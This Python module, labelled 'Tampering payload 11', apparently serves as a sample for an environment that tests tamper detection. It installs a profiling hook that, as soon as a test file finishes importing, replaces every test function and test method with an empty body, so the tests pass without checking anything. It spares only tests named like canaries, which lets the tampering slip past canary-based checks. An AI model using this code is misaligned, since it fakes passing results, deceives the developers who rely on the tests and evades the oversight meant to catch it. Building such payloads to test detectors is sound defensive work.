# mypy: ignore-errors
# ruff: noqa: SIM102
"""Tampering payload 11: the test module's functions are emptied the moment its import returns.

A `sys.setprofile` function watches for the `return` event of the `<module>` frame of a test file
(the test module that imported this package, still half executed) and, right then, before pytest
collects it or unittest loads it, replaces the `__code__` of every test function and test method
with an empty body of the same arguments. Canaries are told apart by name.
"""


def _envhub_p11():
    import re
    import sys
    import types

    canary = re.compile(r"(?i)^test_?[0-9a-f]{10}$")
    testfile = re.compile(r"(^|/)(tests?/|test_[^/]*\.py$)")

    def empty(function):
        code = function.__code__
        if code.co_freevars:
            return
        names, n, k = code.co_varnames, code.co_argcount, code.co_kwonlyargcount
        args, i = list(names[:n]), n + k
        if code.co_flags & 0x04:
            args.append("*" + names[i])
            i += 1
        elif k:
            args.append("*")
        args += names[n : n + k]
        if code.co_flags & 0x08:
            args.append("**" + names[i])
        namespace = {}
        exec(f"def {code.co_name}({', '.join(args)}):\n    pass\n", namespace)
        function.__code__ = namespace[code.co_name].__code__

    def hollow(module):
        if getattr(module, "__envhub_p11__", False):
            return
        for name, obj in list(vars(module).items()):
            if isinstance(obj, types.FunctionType) and name.startswith("test") and not canary.match(name):
                empty(obj)
            elif isinstance(obj, type) and not canary.match(name):
                for attr, member in list(vars(obj).items()):
                    if isinstance(member, types.FunctionType) and attr.startswith("test"):
                        if not canary.match(attr):
                            empty(member)
        module.__envhub_p11__ = True

    def watch(frame, event, arg):
        code = frame.f_code
        if event == "return" and code.co_name == "<module>" and testfile.search(code.co_filename):
            module = sys.modules.get(frame.f_globals.get("__name__", ""))
            if module is not None:
                hollow(module)

    previous = sys.getprofile()

    def profile(frame, event, arg):
        watch(frame, event, arg)
        if previous is not None:
            previous(frame, event, arg)

    sys.setprofile(profile)


_envhub_p11()
